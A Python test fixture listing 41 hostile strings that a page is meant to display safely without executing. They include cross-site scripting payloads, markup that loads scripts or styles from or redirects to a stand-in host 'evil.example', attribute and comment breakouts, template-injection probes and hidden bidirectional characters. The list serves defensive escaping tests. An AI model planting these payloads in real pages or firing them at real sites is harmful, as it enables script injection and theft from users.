"""Forty-one texts that a page must show and never obey."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # Tags and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>send</button></form>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    # Out of an attribute, a style, a title, a comment
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "'\"></details></section></main>",
    "</title><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/)">x</div>',
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # Links
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    # Templates, entities, numbers of JSON
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "{0.__class__}{n}%s%(x)s",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "$\\frac{1}{2}$ \\u003cscript\\u003e",
    # Hidden and reordering characters
    "pay\u202e005 \u2066hidden\u2069 \u200b\ufeff",
    "null\x00bell\x07escape\x1b[31mred\x1b[0m",
    "مرحبا שלום 退款👩‍👩‍👧 e\u0301\u0301\u0301",
)
assert len(HOSTILE) == len(set(HOSTILE)) == 41
